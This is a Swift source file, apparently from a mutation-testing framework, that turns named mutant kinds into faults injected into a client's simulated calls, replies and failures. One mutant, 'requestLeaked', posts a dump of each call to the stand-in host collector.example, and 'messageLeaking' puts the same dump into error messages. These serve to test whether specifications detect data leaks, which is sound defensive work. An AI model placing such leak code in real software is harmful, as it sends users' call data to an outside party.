import AuthProviding
import HTTPTypes
import SpecModel
import Synchronization

extension EnumeratedMutant.Change {
  /// How the change is made; `nil` where the part is none that the kind can change.
  var intervention: Intervention? {
    replyIntervention ?? failureIntervention ?? countIntervention ?? callIntervention
      ?? (requestOperator ?? worldOperator).map(Intervention.world)
  }

  /// The two texts around a word; `nil` where it is not there.
  private func parts(around word: String) -> (String, String)? {
    guard let place = part.firstRange(of: word) else { return nil }
    return (String(part[..<place.lowerBound]), String(part[place.upperBound...]))
  }

  private var path: [String] { part.split(separator: ".").map(String.init) }

  /// The path of a text, and the other way in which it is written; `nil` where the part names none.
  var recoding: ([String], TextRecoding)? {
    guard let (path, name) = parts(around: " "), let recoding = TextRecoding(rawValue: name) else { return nil }
    return (path.split(separator: ".").map(String.init), recoding)
  }
}

// How calls end.
extension EnumeratedMutant.Change {
  private func ending(
    _ change: @escaping @Sendable (Completion.Ending) -> [Completion.Ending]
  ) -> Intervention { .ending(of: subject) { _ in change } }

  private func reply(_ path: [String], _ change: @escaping @Sendable (Value?) -> Value?) -> Intervention {
    ending { [$0.changingReply(at: path[...], change)] }
  }

  private func detail(_ change: @escaping @Sendable (Value?) -> Value?) -> Intervention {
    ending { [path] in [$0.changingFailure { $0.details = $0.details.changing(path[...], change) }] }
  }

  private var replyIntervention: Intervention? {
    switch kind {
    case .replyFieldDropped: return reply(path) { _ in nil }
    case .replyFieldAltered: return reply(path) { $0?.altered }
    case .replyFieldEmptied: return reply(path) { $0?.emptied }
    case .replyFieldAdded: return reply(path) { $0 ?? "x" }
    case .replyFieldFixed: return reply(path) { $0.map { _ in "fixed" } }
    case .replyFieldRecoded:
      guard let (path, recoding) = recoding else { return nil }
      return reply(path) { $0?.recoded(recoding) }
    case .replyStored:
      return .ending(of: subject) { world in
        { ending in
          if case .reply(let fields) = ending { try? world.store.write("last-reply", Value.map(fields).jsonBytes) }
          return [ending]
        }
      }
    case .replyFieldStale:
      return .ending(of: subject) { [path] _ in
        let first = FirstValue<Value>()
        return { [$0.changingReply(at: path[...]) { first($0) }] }
      }
    case .replyFieldSwapped:
      guard let (path, sibling) = parts(around: " with ") else { return nil }
      let names = path.split(separator: ".").map(String.init)
      return ending { ending in
        guard case .reply(let fields) = ending,
          let value = Value.map(fields).sibling(of: path, preferring: sibling)
        else { return [ending] }
        return [.reply(fields.changing(names[...]) { _ in value })]
      }
    case .stateMisreported:
      guard let (path, values) = parts(around: ": "), let place = values.firstRange(of: " as ") else { return nil }
      let (value, other) = (String(values[..<place.lowerBound]), String(values[place.upperBound...]))
      return reply(path.split(separator: ".").map(String.init)) { $0 == .string(value) ? .string(other) : $0 }
    default: return nil
    }
  }

  private var failureIntervention: Intervention? {
    switch kind {
    case .codeReplaced:
      guard let (code, other) = parts(around: " as ") else { return nil }
      return ending { [$0.replacing(code: code, by: other)] }
    case .codeDropped: return ending { [$0.withoutCode] }
    case .failureUnhandled: return ending { [$0.unhandled] }
    case .messageDropped: return ending { [$0.changingFailure { $0.message = "" }] }
    case .detailDropped: return detail { _ in nil }
    case .detailAltered: return detail { $0?.altered }
    case .failureAsSuccess: return ending { $0.isFailure ? [.reply([:])] : [$0] }
    case .failureAsCancellation: return ending { $0.isFailure ? [.cancelled] : [$0] }
    case .successAsFailure: return ending { [part] in $0.isReply ? [.failed(part)] : [$0] }
    case .cancellationMisreported: return ending { $0.isReply ? [.cancelled] : [$0] }
    case .cancellationAsFailure: return ending { [part] in $0 == .cancelled ? [.failed(part)] : [$0] }
    case .cancellationAsSuccess: return ending { $0 == .cancelled ? [.reply([:])] : [$0] }
    default: return nil
    }
  }

  private var countIntervention: Intervention? {
    switch kind {
    case .successDoubled: ending { $0.isReply ? [$0, $0] : [$0] }
    case .successLost: ending { $0.isReply ? [] : [$0] }
    case .failureDoubled: ending { $0.isFailure ? [$0, $0] : [$0] }
    case .failureLost: ending { $0.isFailure ? [] : [$0] }
    case .cancellationDoubled: ending { $0 == .cancelled ? [$0, $0] : [$0] }
    case .cancellationLost: ending { $0 == .cancelled ? [] : [$0] }
    default: nil
    }
  }
}

// Calls and incoming URLs.
extension EnumeratedMutant.Change {
  private func call(
    _ perform: @escaping @Sendable (Call, Completion, AnyClient, World) async -> Void
  ) -> Intervention { .call(of: subject, perform) }

  private func argument(_ path: [String], _ change: @escaping @Sendable (Value?) -> Value?) -> Intervention {
    call { call, completion, client, _ in
      var call = call
      call.arguments = call.arguments.changing(path[...], change)
      await client.perform(call, completion)
    }
  }

  private var callIntervention: Intervention? {
    switch kind {
    case .argumentDropped: return argument(path) { _ in nil }
    case .argumentAltered: return argument(path) { $0?.altered }
    case .argumentRecoded:
      guard let (path, recoding) = recoding else { return nil }
      return argument(path) { $0?.recoded(recoding) }
    case .callSkipped: return call { _, completion, _, _ in completion(.reply([:])) }
    case .callRefused: return call { [part] _, completion, _, _ in completion(.failed(part)) }
    case .callRepeated:
      return call { call, completion, client, _ in
        await client.perform(call, Completion { _ in })
        await client.perform(call, completion)
      }
    case .callPreceded:
      return call { [part] call, completion, client, _ in
        await client.perform(Call(operation: part), Completion { _ in })
        await client.perform(call, completion)
      }
    case .callFollowed:
      return call { [part] call, completion, client, _ in
        await client.perform(call, completion)
        await client.perform(Call(operation: part), Completion { _ in })
      }
    case .endingHurried:
      return call { call, completion, client, _ in
        completion(.reply([:]))
        await client.perform(call, Completion { _ in })
      }
    case .endingDelayed:
      return call { call, completion, client, world in
        let last = Mutex<Completion.Ending?>(nil)
        await client.perform(call, Completion { ending in last.withLock { $0 = ending } })
        try? await world.clock.sleep(for: .seconds(3600))
        if let ending = last.withLock({ $0 }) { completion(ending) }
      }
    case .endingTimedOut:
      return call { [part] call, completion, client, world in
        let hasEnded = Mutex(false)
        @Sendable func end(_ ending: Completion.Ending) {
          let isFirst = hasEnded.withLock { hasEnded in
            defer { hasEnded = true }
            return !hasEnded
          }
          if isFirst { completion(ending) }
        }
        Task {
          try? await world.clock.sleep(for: .seconds(60))
          end(.failed(part))
        }
        await client.perform(call, Completion { end($0) })
      }
    case .urlRefused: return .url { _, _, _ in false }
    case .urlDenied:
      return .url { url, source, client in
        _ = client.open(url, source)
        return false
      }
    case .urlClaimed:
      return .url { url, source, client in
        _ = client.open(url, source)
        return true
      }
    default: return additionIntervention
    }
  }

  /// What a call does that nothing asks for.
  private var additionIntervention: Intervention? {
    switch kind {
    case .requestAdded, .requestsFlooded:
      guard let request = Request(words: part) else { return nil }
      let times = kind == .requestAdded ? 1 : 30
      return call { call, completion, client, world in
        for _ in 0..<times { _ = try? await world.network.send(request) }
        await client.perform(call, completion)
      }
    case .requestLeaked:
      return call { call, completion, client, world in
        let report = Request(.post, "https://collector.example/calls", body: Array(call.dump(in: world).utf8))
        _ = try? await world.network.send(report)
        await client.perform(call, completion)
      }
    case .messageLeaking:
      return call { call, completion, client, world in
        let told = " " + call.dump(in: world)
        await client.perform(call, Completion { completion($0.changingFailure { $0.message += told }) })
      }
    case .pageAdded:
      return call { [part] call, completion, client, world in
        _ = await world.customer.browse(to: part)
        await client.perform(call, completion)
      }
    case .eventAdded:
      guard let (name, value) = parts(around: "=") else { return nil }
      return call { call, completion, client, world in
        world.events.emit(name, (try? Value(json: Array(value.utf8))) ?? .string(value))
        await client.perform(call, completion)
      }
    default: return nil
    }
  }
}

extension Request {
  /// The words from which a request can be made again: its method, its address and the operation of an AWS service.
  var words: String {
    let target = Self.target.flatMap { head.headerFields[$0] }
    return [method, url.prefix { $0 != "?" }.description, target].compactMap(\.self).joined(separator: " ")
  }

  private static var target: HTTPField.Name? { HTTPField.Name("X-Amz-Target") }

  /// Makes a request of its words; `nil` where there is no address.
  init?(words: String) {
    let parts = words.split(separator: " ").map(String.init)
    guard parts.count > 1, let method = HTTPRequest.Method(parts[0]) else { return nil }
    self.init(method, parts[1])
    if parts.count > 2, let target = Self.target {
      head.headerFields[target] = parts[2]
      head.headerFields[.contentType] = "application/x-amz-json-1.1"
      body = Array("{}".utf8)
    }
  }
}

extension Value {
  /// An empty value of the same type.
  var emptied: Value {
    switch self {
    case .string: ""
    case .integer: 0
    case .decimal: .decimal(0)
    case .bool: false
    case .list: []
    case .map: [:]
    case .null: .null
    }
  }
}
